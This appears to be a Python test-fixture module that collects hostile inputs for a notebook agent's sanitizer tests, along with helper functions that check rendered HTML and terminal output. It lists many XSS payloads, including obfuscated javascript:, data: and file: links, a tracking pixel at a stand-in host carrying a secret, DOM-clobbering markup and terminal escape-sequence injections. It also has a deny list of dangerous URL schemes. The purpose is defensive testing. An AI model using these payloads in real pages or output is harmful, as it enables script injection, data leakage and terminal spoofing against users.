"""Hostile inputs shared by the tests and the reliability campaign (scenarios 12-15), and the checks they must pass.

One list per medium, each the union of what the tests and the campaign used to keep apart:
``MARKUP`` (script and active HTML in Markdown), ``LINKS`` (remote images and script, data and
file links, however spelled), ``MARKDOWN`` (both), ``TERMINAL`` (control sequences, with how
each must show once escaped) and a hostile file ``NAME``.  The tests import them from here
(the repository root is on sys.path), as does ``reliability.hostile``; ``nbagent`` never does.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import unquote

from markdown_it import MarkdownIt

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="  # a 1x1 image, base64
BENIGN_LINK = "[the docs](https://example.org/docs)"  # an ordinary link, which must stay a link

# Script and active HTML: what a renderer must neutralize (the panel, the transcript, exports).
MARKUP = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#09;script:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<svg onload=alert(1)><circle/></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<a id="config" name="config" href="https://x.org">clobber</a>',
    '<form id="Jupyter"><input name="notebook"></form>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "[ref]\n\n[ref]: javascript:alert(4)",
    "<!-- --><script>alert(1)</script><!-- -->",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "    <script>indented code</script>\n\n<script>alert(1)</script>",
    "<style>body{display:none}</style>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "$$\\href{javascript:alert(1)}{x}$$",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<p onmouseover=alert(1)>hover</p>",
    "<x-tag onclick=alert(1)>x</x-tag>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "`` <script>alert(1)</script> ``",
    "\u2028<script>alert(1)</script>",
    '<iframe src="https://evil.example"></iframe>',
    "![pixel](https://evil.example/leak.png?secret=42)",
    "[relative](/api/contents?delete=1)",
    '<form action="https://evil"><input name="x"></form>',
]
# Links that load something or run something.
LINKS = [
    # Remote images, every way CommonMark makes one.
    "![pixel](https://evil.example/pixel.png)",
    "![pixel](//evil.example/pixel.png)",
    '![pixel](HTTPS://evil.example/pixel.png "title")',
    "![pixel][r]\n\n[r]: https://evil.example/ref.png",
    "![r][]\n\n[r]: https://evil.example/collapsed.png",
    "![r]\n\n[r]: https://evil.example/shortcut.png",
    "![pixel][r]\n\n[r]:\n  https://evil.example/next-line.png",
    "> ![quoted](https://evil.example/quote.png)",
    "- ![listed](https://evil.example/list.png)",
    "# ![heading](https://evil.example/heading.png)",
    "[![nested](https://evil.example/nested.png)](https://example.org/)",
    '<img src="https://evil.example/tag.png">',
    "<https://evil.example/autolink>",
    "![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSkvPg==)",
    # Script, data and file links, however spelled.
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](javascript\\:alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](javascript&#x3A;alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](jav&#x09;ascript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](java%73cript:alert(1))",
    "[a](javascript%3Aalert(1))",
    "[a](%6Aavascript:alert(1))",
    "[a](\\javascript:alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    '[a](javascript\\:alert(1) "title")',
    "[a](\njavascript\\:alert(1))",
    "[a](vbscript\\:msgbox(1))",
    "[a](data\\:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](data:text/html,%3Cscript%3Ealert(1)%3C/script%3E)",
    "[a](DATA:image/svg+xml,%3Csvg%20onload=alert(1)%3E)",
    "[a](file:///etc/passwd)",
    "[a](FILE\\:///C:/Windows/win.ini)",
    "[a](blob:https://evil.example/uuid)",
    "[a][r]\n\n[r]: javascript\\:alert(1)",
    "[r]\n\n[r]: vbscript\\:msgbox(1)",
    '[r][]\n\n[r]: data\\:text/html,x "t"',
    "[a][r]\n\n[r]: <javascript:alert(1)>",
    "[a][R]\n\n  [r]: file\\:///etc/passwd",
    "> [a](javascript\\:alert(1))\n> more",
    "1. item\n\n   [a](javascript\\:alert(1))",
    "*[a](javascript\\:alert(1))* and **[b](file:///x)**",
    "[a \\](b)](javascript\\:alert(1))",
    "\\\\[a](javascript\\:alert(1))",
    "[a](javascript\\:alert(1))" * 3,
]
# Every hostile Markdown payload (LINKS first: the campaign's quick run picks a few by index).
MARKDOWN = LINKS + MARKUP

# (payload, how it must show in human output)
TERMINAL = [
    ("\x1b]52;c;ZXZpbA==\x07", "\\x1b]52;c;ZXZpbA==\\x07"),  # OSC 52: write the clipboard
    ("\x1b]0;pwned\x07", "\\x1b]0;pwned\\x07"),  # OSC 0: window title
    ("\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\", "\\x1b]8;;http://evil.example/\\x1b\\click\\x1b]8;;\\x1b\\"),  # OSC 8 link
    ("\x1b[8mhidden\x1b[0m", "\\x1b[8mhidden\\x1b[0m"),  # SGR 8: concealed text
    ("\x9b31m", "\\x9b31m"),  # C1 CSI (one character)
    ("\x9d0;c1-title\x9c", "\\x9d0;c1-title\\x9c"),  # C1 OSC ... ST
    ("a\rb", "a\\rb"),  # carriage return: overwrite the line
    ("\x07", "\\x07"),  # BEL
    ("x\x08y", "x\\x08y"),  # backspace
    ("x\x7fy", "x\\x7fy"),  # DEL
    ("\x1b[2J\x1b[H", "\\x1b[2J\\x1b[H"),  # clear the screen
    ("\x1bP+q\x1b\\", "\\x1bP+q\\x1b\\"),  # DCS
    ("\u202eevil\u202c", "\\u202eevil\\u202c"),  # RLO ... PDF (Trojan Source)
    ("\u2066iso\u2069", "\\u2066iso\\u2069"),  # LRI ... PDI
    ("\x1b[31m", "\\x1b[31m"),  # SGR: colour
    ("\x90dcs\x9c", "\\x90dcs\\x9c"),  # C1 DCS ... ST
    ("\x85", "\\x85"),  # C1 NEL: a line break to some terminals
    ("\x00", "\\x00"),  # NUL
]
# All of them in one string, for every text field of a log.
ESCAPES = "".join(payload for payload, _shown in TERMINAL)
# What a log file is called: a cloned repository chooses its file names too.
NAME = "s\x1b]0;name\x07\x1b[31m\x9b1m\u202ea\rb\x08\x7f"
NAME_SHOWN = "s\\x1b]0;name\\x07\\x1b[31m\\x9b1m\\u202ea\\rb\\x08\\x7f"

DANGEROUS = ("javascript:", "vbscript:", "data:", "file:", "blob:")
SAFE_IMAGE = re.compile(r"data:image/(png|jpeg|gif|webp);base64,[a-z0-9+/=]*")
BIDI = (range(0x202A, 0x202F), range(0x2066, 0x206A))


class StartTags(HTMLParser):
    """Every start tag with all its attributes (repeats too), entity-decoded as a browser decodes them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, [(name, value or "") for name, value in attrs]))


def start_tags(html: str) -> list[tuple[str, list[tuple[str, str]]]]:
    """The start tags a browser would see in ``html``, each with its (name, value) attributes."""
    parser = StartTags()
    parser.feed(html)
    parser.close()
    return parser.found


def careless_html(markdown: str) -> str:
    """Markdown rendered with raw HTML allowed and no URL filter at all."""
    md = MarkdownIt("commonmark", {"html": True})
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    return md.render(markdown)


def cleaned(url: str) -> str:
    """The URL %-decoded (repeatedly), without whitespace or controls, lowercased: the most a lenient reader makes of it."""
    for _ in range(4):
        url = unquote(url)
    return "".join(c for c in url if c.isprintable() and not c.isspace()).lower()


def assert_no_live_remote_or_script(markdown: str) -> tuple[list[str], list[str]]:
    """Render carelessly and check every URL: no src loads anything but an inline image, no link runs script; the hrefs and srcs."""
    html = careless_html(markdown)
    hrefs, srcs = [], []
    for tag, attrs in start_tags(html):
        for name, value in attrs:
            if name in ("src", "srcset", "poster", "background", "data"):
                url = cleaned(value)
                srcs.append(url)
                assert SAFE_IMAGE.fullmatch(url), f"<{tag} {name}={value!r}> loads something: {html}"
            elif name in ("href", "xlink:href", "action", "formaction"):
                url = cleaned(value)
                hrefs.append(url)
                assert not url.startswith(DANGEROUS), f"<{tag} {name}={value!r}>: {html}"
    return hrefs, srcs


def controls(data: bytes) -> list[str]:
    """What in output a terminal would act on: C0 controls but newline and tab, DEL, C1, bidi overrides, bytes that are not UTF-8."""
    found = set()
    for char in data.decode("utf-8", "surrogateescape"):
        code = ord(char)
        if (code < 0x20 and char not in "\n\t") or 0x7F <= code <= 0x9F or any(code in span for span in BIDI):
            found.add(f"U+{code:04X}")
        elif 0xDC80 <= code <= 0xDCFF:
            found.add(f"byte 0x{code - 0xDC00:02X} (not UTF-8)")
    return sorted(found)
